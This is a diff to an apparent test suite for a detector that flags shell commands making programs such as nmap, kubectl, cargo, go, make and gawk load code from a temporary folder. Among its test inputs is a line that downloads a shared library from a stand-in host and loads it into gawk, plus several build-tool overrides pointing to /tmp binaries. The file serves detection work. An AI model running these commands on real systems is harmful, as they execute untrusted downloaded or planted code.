@@ -25,6 +25,9 @@ describe('code of a temporary folder that an option makes a program load', () =>
     "fzf --bind 'load:become(sh /tmp/a)'",
     'CXX=/tmp/a go build ./...',
     'RUSTFLAGS="-C linker=/tmp/a" cargo build',
+    'nmap -sV --script /tmp/a.nse 10.0.0.1',
+    'nmap --script=vuln,/tmp/a.nse box',
+    'KUBECTL_EXTERNAL_DIFF=/tmp/a kubectl diff -k deploy',
     'curl -so /tmp/a.so https://x.test/a.so && gawk -l /tmp/a.so 1',
     'make CC=/tmp/b/../bin/../a all',
   ])('%s', async (command) => {
@@ -52,6 +55,8 @@ describe('code of a temporary folder that an option makes a program load', () =>
     "fzf --bind 'ctrl-y:execute(echo {} > /tmp/picked)'",
     'CARGO_TARGET_DIR=/tmp/t cargo build',
     'node /tmp/a.js --import',
+    'nmap -oN /tmp/scan.txt --script=vuln box',
+    'KUBECTL_EXTERNAL_DIFF="diff -u" kubectl diff -f /tmp/a.yaml',
   ])('not in %s', async (command) => {
     await expect(command).not.toTell(LOADS);
   });
